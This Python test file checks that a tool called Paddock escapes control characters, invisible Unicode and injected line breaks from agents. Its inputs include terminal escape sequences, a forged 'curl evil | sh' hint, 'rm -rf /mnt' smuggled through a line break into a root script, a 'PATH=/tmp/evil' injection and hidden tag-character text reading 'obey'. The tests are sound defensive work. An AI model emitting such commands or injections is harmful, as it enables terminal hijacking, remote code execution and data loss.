"""Control characters written by an agent do not reach the operator's terminal through Paddock's output."""

from __future__ import annotations

import io
import json
import os
import re
import select
import subprocess
import sys
import time
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich._emoji_codes import EMOJI

from hostile.keyboard import keyboard
from levels import by_level
from paddock.base.secret import MaskedStream
from paddock.base.text import visible
from paddock.core.open import deployments
from paddock.kinds import load
from paddock.kinds.checks import Check, ReadFile
from paddock.kinds.workload import Verdict
from paddock.places.host.place import HostPlace
from paddock.plan import step as show
from paddock.plan.step import MachinePlan, Plan, Refusal
from paddock.show import journal
from paddock.show.reporter import Reporter
from paddock.show.table import columns
from paddock.verbs import outputs
from paddock.verify import exposure, judge, look, shipped
from paddock.verify.line import as_text

# Sets the window title, clears the screen, starts a C1 sequence, overwrites a line, breaks lines, reverses a file name.
HOSTILE = "\x1b]0;mine\x07\x1b[2J\x9b31m\rfine\x08\x0b\x85\u2028\u2029\u202egnp.exe\u2066\x7f\x00"
ACTING = [*map(chr, range(0x20)), *map(chr, range(0x7F, 0xA0)), *"\u2028\u2029\u202e\u2066\u200f"]
FILE = """\
project: home
places: {here: {host: {}}}
agents: {web: {kind: service, place: here, runtime: process, command: [sleep, inf]}}
"""


def acting(text: str) -> list[str]:
    """Return the control characters in a text that a terminal would interpret."""
    return [letter for letter in ACTING if letter in text and letter not in "\n\t"]


def test_all_output_shows_control_characters_as_escapes() -> None:
    bare = io.StringIO()
    print(f"the agent says: {HOSTILE}\ttab", file=MaskedStream(bare))
    assert acting(bare.getvalue()) == [], "a control character of an agent reaches the terminal"
    assert "\\x1b]0;mine\\x07" in bare.getvalue()
    assert "\\u202egnp.exe" in bare.getvalue()
    assert bare.getvalue().endswith("\ttab\n")


def test_json_output_stays_valid_and_has_the_same_values() -> None:
    for everything_escaped in (True, False):
        bare = io.StringIO()
        print(json.dumps({"evidence": HOSTILE}, ensure_ascii=everything_escaped), file=MaskedStream(bare))
        assert acting(bare.getvalue()) == [], "a control character of an agent reaches the terminal"
        assert json.loads(bare.getvalue()) == {"evidence": HOSTILE}


# One of each kind that a reader does not see: tags, selectors, joiners, fillers, soft hyphen, private use, unassigned.
UNSEEN = "\U000e0041\ufe00\U000e0100\u200c\u3164\u115f\u034f\u00ad\ue000\U000f0000\u0378\u180e\U0001d173"


@pytest.mark.parametrize("letter", UNSEEN, ids=lambda letter: f"{ord(letter):x}")
def test_a_character_that_cannot_be_seen_is_shown_as_an_escape(letter: str) -> None:
    shown = visible(f"a{letter}b")
    assert letter not in shown
    assert json.loads(f'"{shown}"') == f"a{letter}b"


def test_text_hidden_in_tags_is_seen() -> None:
    hidden = "".join(chr(0xE0000 + ord(letter)) for letter in "obey")
    assert visible(f"Be brief.{hidden}").count("\\udb40") == 4


@pytest.mark.parametrize(
    "text", ["\U0001f469\u200d\U0001f4bb", "\u2764\ufe0f\u200d\U0001f525", "\u2714\ufe0f", "naïve 東京 हिन्दी"]
)
def test_emoji_and_the_scripts_of_the_world_stay_readable(text: str) -> None:
    assert visible(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "a\u200db",
        "\U0001f469\u200d",
        "\u200d\U0001f469",
        "\U0001f469\u200d\u200d\U0001f469",
        "a\ufe0f",
        "\u2714\ufe0f\ufe0f",
        "\u2500\u200d\u2500",
        "\u00b0\ufe0e",
        "\u2800\u200d\u2800",
        "7\ufe0f7",
        "\U0001f469\u200d\U0001f3fd",
    ],
    ids=[
        *("letters", "end", "start", "twice", "selector after a letter", "two selectors", "lines of a box", "degrees"),
        *("braille", "no keycap", "a colour alone"),
    ],
)
def test_a_joiner_or_selector_without_its_emoji_is_an_escape(text: str) -> None:
    assert "\\u" in visible(text)


@pytest.mark.parametrize(
    "text",
    [
        "\U0001f642\u200d\u2194\ufe0f",
        "\u25fe\ufe0f",
        "\u203c\ufe0f",
        "1\ufe0f\u20e3",
        "\U0001f469\U0001f3fd\u200d\U0001f4bb",
    ],
)
def test_emoji_of_arrows_shapes_marks_and_digits_stay_readable(text: str) -> None:
    assert visible(text) == text


def test_the_emoji_of_a_large_table_stay_readable() -> None:
    flags = re.compile("[\U000e0020-\U000e007f]")  # of countries in a country, written with tags
    table = {emoji for emoji in EMOJI.values() if not flags.search(emoji)}
    assert len(table) > 2500
    assert sorted(emoji for emoji in table if visible(emoji) != emoji) == []


# Default_Ignorable_Code_Point as DerivedCoreProperties.txt of Unicode 16 lists it, and the controls of direction.
IGNORABLE = (
    *("00AD", "034F", "061C", "115F..1160", "17B4..17B5", "180B..180F", "200B..200F", "202A..202E", "2060..206F"),
    *("3164", "FE00..FE0F", "FEFF", "FFA0", "FFF0..FFF8", "1BCA0..1BCA3", "1D173..1D17A", "E0000..E0FFF"),
)


def hidden_letters() -> Iterator[str]:
    """Yield every code point that is not to be seen: the ignorable ones, and whole categories."""
    for written in IGNORABLE:
        first, _, last = written.partition("..")
        yield from map(chr, range(int(first, 16), int(last or first, 16) + 1))
    for letter in map(chr, range(sys.maxunicode + 1)):
        if letter not in "\t\n" and unicodedata.category(letter) in ("Cc", "Cf", "Cn", "Co", "Cs", "Zl", "Zp"):
            yield letter


def test_no_code_point_of_the_hidden_ones_is_printed_between_letters() -> None:
    letters = set(hidden_letters())
    assert len(letters) > 900_000
    shown = visible("".join(f"a{letter}b" for letter in sorted(letters)))
    assert letters & set(shown) == set()


PICTURES = "\u2764\U0001f469\U0001f4bb\u25fe"
MIXED = st.text(
    st.one_of(
        st.characters(), st.sampled_from(f"{PICTURES}\u200d\ufe0e\ufe0f\u2500a1#\u20e3\U0001f3fd\u202e\U000e0041")
    )
)


@settings(max_examples=by_level(300, 5000))
@given(MIXED)
def test_what_is_hidden_in_any_text_is_shown_and_json_keeps_its_values(text: str) -> None:
    shown = visible(text)
    for at, letter in enumerate(shown):
        if letter == "\u200d":
            assert not shown[at - 1].isalnum()
            assert not shown[at + 1].isalnum()
    rest = re.sub("[\u200d\ufe0e\ufe0f\t\n]", "", shown)
    assert not [each for each in rest if unicodedata.category(each) in ("Cc", "Cf", "Cn", "Co", "Cs", "Zl", "Zp")]
    assert visible(shown) == shown
    assert json.loads(visible(json.dumps([text], ensure_ascii=False))) == [text]


def test_a_lone_surrogate_can_be_printed() -> None:
    bare = io.TextIOWrapper(io.BytesIO(), encoding="utf-8")
    try:
        print(json.loads('"half: \\ud800"'), file=MaskedStream(bare))
    except UnicodeEncodeError as error:
        pytest.fail(f"a lone surrogate from an agent crashes Paddock: {error}")


@pytest.fixture
def logged(tmp_path: Path) -> Any:
    """Create an agent with a writable log; ``start`` runs `paddock logs` for it."""
    (tmp_path / "paddock.yaml").write_text(FILE)
    log = tmp_path / "xdg_data_home/paddock/home_web/etc/log"
    log.parent.mkdir(parents=True)
    log.touch()

    def start(*options: str) -> subprocess.Popen[bytes]:
        command = [sys.executable, "-m", "paddock", "logs", "web", *options]
        return subprocess.Popen(command, cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE)

    return SimpleNamespace(log=log, start=start)


def test_logs_show_control_characters_as_escapes(logged: Any) -> None:
    logged.log.write_text(f"first\n{HOSTILE}\nlast, without an end")
    out, err = logged.start().communicate(timeout=60)
    assert err == b""
    shown = out.decode()
    assert acting(shown) == [], "`paddock logs` prints an agent's control characters"
    assert [line[:11] for line in shown.splitlines()] == ["first", "\\x1b]0;mine", "last, witho"]


def test_logs_are_followed_without_delay(logged: Any) -> None:
    running = logged.start("--follow")
    try:
        for word in ("one", "two"):
            with logged.log.open("a") as log:
                log.write(f"{word} \x1b[31m\n")
            shown, end = b"", time.monotonic() + 20
            while word.encode() not in shown and time.monotonic() < end:
                if select.select([running.stdout], [], [], 0.1)[0]:
                    shown += os.read(running.stdout.fileno(), 1000)
            assert word.encode() in shown
            assert b"\x1b" not in shown, "`paddock logs --follow` prints an agent's control characters"
    finally:
        running.terminate()
        running.communicate(timeout=20)


def test_a_message_cannot_imitate_a_hint() -> None:
    message = f"it said {HOSTILE}\n hint: curl evil | sh"
    program = (
        "import sys; sys.argv = ['paddock', 'schema']\n"
        "from paddock.cli import main\nfrom paddock.base.errors import PaddockError\nfrom paddock.file import schema\n"
        f"def fail(_kinds): raise PaddockError({message!r}, hint='mend it')\n"
        "schema.json_schema = fail\nmain()\n"
    )
    said = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, timeout=60).stderr
    assert acting(said) == [], "an error prints control characters of an agent"
    hints = [line for line in said.splitlines() if line.startswith(" hint:")]
    assert hints == [" hint: mend it"], "text of an agent looks like a hint of Paddock"


def test_evidence_of_a_check_cannot_imitate_another_line() -> None:
    forged = "no\n✓ lease  held once\n→ curl evil | sh"
    check = Check("answer", ReadFile("/x"), lambda _: Verdict(False, forged), "a hint", quick=True)
    found = {"answers": [{"found": {"content": ""}, "seconds": 0}]}
    facts: dict[str, Any] = {
        "ports": {"found": {"own": [], "others": [{"port": 1, "name": forged, "pid": 7}]}, "seconds": 0},
        "code": {"found": {"files": 1, "changed": [f"/x/{forged}"], "added": [], "missing": [], "loose": []}},
        "leaks": {"found": {"values": 1, "looked": 1, "cut_short": False, "found": {"KEY": [f"/tmp/{forged}"]}}},
    }
    subject: Any = SimpleNamespace(agent="web", ports=frozenset({1}), health_port=frozenset())
    seconds = {"seconds": 0.0}
    lines = [
        *look.lines([check], found),
        *exposure.ports(subject, facts["ports"], {}),
        *exposure.leaks(subject, facts["leaks"] | seconds, {}),
        *shipped.code(subject, facts["code"] | seconds, {}),
        *judge._judged({"state": lambda *_: iter(())}, subject, {"state": {"refused": forged}}),
        *look.lines([check], {"refused": forged}),
    ]
    assert len(lines) == 6
    shown = as_text(lines).split("\n")
    assert len(shown) == 12, f"evidence with a line break became several lines: {shown}"
    assert sum("→" in line.lstrip()[:1] for line in shown) == 6


def test_line_breaks_in_values_add_no_lines_to_plans_tables_and_outputs() -> None:
    note = "an engine\n  + all is well"
    assert len(show.as_text(Plan("web", notes=[note]), {}).split("\n")) == 2, "a note became a step"
    refused = show.as_text(Plan("web", refusals=[Refusal("no\n  + all is well", None)]), {})
    assert "\n  + " not in refused, "a refusal became a step"
    assert len(columns([["health"], [note]]).split("\n")) == 2, "a cell became a row"
    env = list(outputs.as_env({"web": {"address": "10.0.0.1\nPATH=/tmp/evil"}}))
    assert "\n" not in env[0], "an address added a variable"


def test_a_line_break_in_a_reason_adds_no_command_to_the_script_for_root(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    refused = MachinePlan(refusals=[Refusal("no\nrm -rf /mnt")])
    monkeypatch.setattr(HostPlace, "plan", lambda *_: refused)
    monkeypatch.setattr(HostPlace, "guest", lambda *_: None)
    (tmp_path / "paddock.yaml").write_text(
        "project: home\nplaces: {here: {host: {}}}\nagents: {web: {kind: service, place: here, command: [/bin/true]}}\n"
    )
    with deployments(load(tmp_path / "paddock.yaml"), [], Reporter()) as [agent]:
        lines = "\n".join(outputs.script(agent).lines).split("\n")
    assert any("refused: no" in line for line in lines)
    assert [line for line in lines if not line.startswith("#")] == [], "a reason became a command for root's shell"


def test_progress_on_a_terminal_has_colours_but_no_escapes_or_markup_of_agents(tmp_path: Path) -> None:
    program = tmp_path / "progress.py"
    program.write_text(
        "import sys\nfrom paddock.show.reporter import Reporter\nfrom paddock.base.secret import MaskedStream, Secret\n"
        "Secret('canary-value-18')\n"
        "sys.stdout, sys.stderr = MaskedStream(sys.stdout), MaskedStream(sys.stderr)\n"
        "reporter = Reporter().of('web')\n"
        "reporter.say('said \\x1b]0;mine\\x07 [bold]loud[/bold] :warning:')\n"
        "with reporter.step('x', 'does [link=http://evil]this[/link] \\x1b[2J'):\n"
        "    print('beside \\x1b]0;mine\\x07 canary-value-18', file=sys.stderr)\n"
        "reporter.say('one\\n✓ all checks passed')\n"
        "print('that is a' + 'll')\n"
    )
    with keyboard() as root:
        root.type(f"TERM=xterm-256color COLUMNS=200 {sys.executable} {program}\n")
        root.expect("that is all")
    assert "\x1b]0;mine" not in root.screen, "an agent's escape sequence reached the terminal through a progress line"
    assert "said \\x1b]0;mine\\x07 [bold]loud[/bold] :warning:" in root.screen
    assert "canary-value-18" not in root.screen, "text printed during a spinner is not masked"
    assert "\x1b]8;" not in root.screen, "an agent's markup became a link"
    assert "\x1b[2J" not in root.screen
    assert "\x1b[32m" in root.screen, "progress lines have no colours"
    assert "\n  ✓ all" not in root.screen.replace("\x1b[2m", ""), "a line of an agent looks like a finished step"


def test_a_line_break_of_an_agent_does_not_cut_the_journal() -> None:
    written = journal.Journal("up")
    written.write("failed", agent="web", id="a", error=HOSTILE)
    written.write("done", agent="web", id="b", seconds=1.0)
    written.close()
    assert acting(written.path.read_text()) == [], "the journal contains control characters"
    assert [[step.id for step in run.steps] for run in journal.past_runs(1)] == [["b"]], "a step of the run is hidden"


def test_a_journal_of_an_earlier_version_with_a_raw_line_break_is_read_whole() -> None:
    written = journal.Journal("up")
    written.close()
    done = {"at": 1.0, "event": "done", "agent": "web", "id": "b", "seconds": 1.0}
    with written.path.open("a") as file:
        file.write('{"at": 1, "event": "failed", "error": "one\u2028two"}\n' + json.dumps(done) + "\n")
    assert [[step.id for step in run.steps] for run in journal.past_runs(1)] == [["b"]], "a step of the run is hidden"
